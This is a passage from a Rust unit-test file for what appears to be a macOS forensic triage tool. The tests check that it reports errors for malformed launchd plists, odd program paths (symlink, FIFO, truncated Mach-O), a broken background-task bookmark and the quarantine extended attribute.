    write(r, "/opt/lie", &lie);
    let plist = |label: &str, prog: &str| xml(serde_json::json!({"Label": label, "Program": prog}));
    write(
        r,
        &format!("{la}/e.trunc.plist"),
        &plist("e.trunc", "/opt/trunc"),
    );
    write(r, &format!("{la}/f.lie.plist"), &plist("f.lie", "/opt/lie"));
    // A program path that is a symlink, and one that is a FIFO.
    std::os::unix::fs::symlink("/opt/lie", r.join("opt/link")).unwrap();
    nix::unistd::mkfifo(
        &r.join("opt/fifo"),
        nix::sys::stat::Mode::from_bits_truncate(0o600),
    )
    .unwrap();
    write(
        r,
        &format!("{la}/g.link.plist"),
        &plist("g.link", "/opt/link"),
    );
    write(
        r,
        &format!("{la}/h.fifo.plist"),
        &plist("h.fifo", "/opt/fifo"),
    );
    write(
        r,
        &format!("{la}/z.good.plist"),
        &plist("z.good", "/opt/missing"),
    );

    let (report, recs) = records(r);
    assert_eq!(report.status, Status::Partial);
    let errs: Vec<(String, String)> = report
        .errors
        .iter()
        .map(|e| (e.path.clone().unwrap_or_default(), e.message.clone()))
        .collect();
    let has = |path: &str, text: &str| {
        errs.iter()
            .any(|(p, m)| p.ends_with(path) && m.contains(text))
    };
    assert!(has("a.corrupt.plist", "not parsed"), "{errs:#?}");
    assert!(has("b.bomb.plist", "expands to more than"), "{errs:#?}");
    assert!(
        has("c.array.plist", "an array, not a dictionary"),
        "{errs:#?}"
    );
    assert!(
        has("d.numbers.plist", "ProgramArguments holds an integer"),
        "{errs:#?}"
    );
    assert!(has("/opt/trunc", "Mach-O"), "{errs:#?}");
    assert!(has("/opt/lie", "Mach-O"), "{errs:#?}");
    // The items are still there, each with its own error.
    let c = find(&recs, "source", "/Library/LaunchDaemons/c.array.plist");
    assert_eq!(c["error"], "launchd plist is an array, not a dictionary");
    let n = job(&recs, "d.numbers");
    assert!(n["error"].as_str().unwrap().contains("ProgramArguments"));
    let t = job(&recs, "e.trunc");
    assert!(t["program_error"].as_str().unwrap().starts_with("Mach-O"));
    assert!(t["program_sha256"].is_string());
    let l = job(&recs, "g.link");
    assert_eq!(l["program_link_target"], "/opt/lie");
    assert!(notes(l).contains(&"program_not_regular"));
    let f = job(&recs, "h.fifo");
    assert!(f["program_error"].as_str().unwrap().contains("FIFO"));
    let z = job(&recs, "z.good");
    assert!(notes(z).contains(&"program_missing"));
}

#[test]
#[cfg_attr(not(realdata), ignore = "needs MACTRIAGE_REALDATA=../shared/realdata")]
fn a_btm_store_with_a_broken_bookmark_keeps_its_items() {
    let Some(real) = realdata() else {
        return;
    };
    let d = tempfile::tempdir().unwrap();
    let r = d.path();
    std::fs::create_dir_all(r.join("Users/amy")).unwrap();
    let user_btm = "Users/amy/Library/Application Support/com.apple.backgroundtaskmanagementagent/backgrounditems.btm";
    write(
        r,
        user_btm,
        &std::fs::read(real.join("btm/malformed/bad_bookmark.btm")).unwrap(),
    );
    let (report, recs) = records(r);
    assert_eq!(report.status, Status::Partial);
    assert!(report.errors[0]
        .message
        .contains("bookmark that does not decode"));
    assert!(recs.iter().any(|r| r["bookmark_error"].is_string()));
}

#[test]
fn the_quarantine_attribute_of_a_program() {
    let q = program::parse_quarantine(b"0083;5f1e2b3c;Safari;6F1B2C3D-0000-4000-8000-000000000001");
    assert_eq!(q.flags.as_deref(), Some("0083"));
    assert_eq!(q.time.as_deref(), Some("2020-07-27T01:17:48Z"));
    assert_eq!(q.agent.as_deref(), Some("Safari"));
    assert_eq!(
        q.event_id.as_deref(),
        Some("6F1B2C3D-0000-4000-8000-000000000001")
    );
    let d = tempfile::tempdir().unwrap();
    let r = d.path();
    std::fs::create_dir_all(r.join("Users/kim")).unwrap();
    let prog = write(r, "Users/kim/Downloads/tool", b"#!/bin/sh\n");
    if xattr::set(&prog, "user.com.apple.quarantine", b"0081;5f1e2b3c;Chrome;").is_err() {
        eprintln!("user extended attributes not supported here; skipping");
        return;
    }
    write(
        r,
        "Users/kim/Library/LaunchAgents/t.plist",
        &xml(serde_json::json!({"Label": "t", "Program": "/Users/kim/Downloads/tool"})),
    );
    let (_, recs) = records(r);
    let t = job(&recs, "t");
    assert_eq!(t["program_quarantine"]["agent"], "Chrome");
    assert_eq!(t["program_quarantine"]["time"], "2020-07-27T01:17:48Z");
}
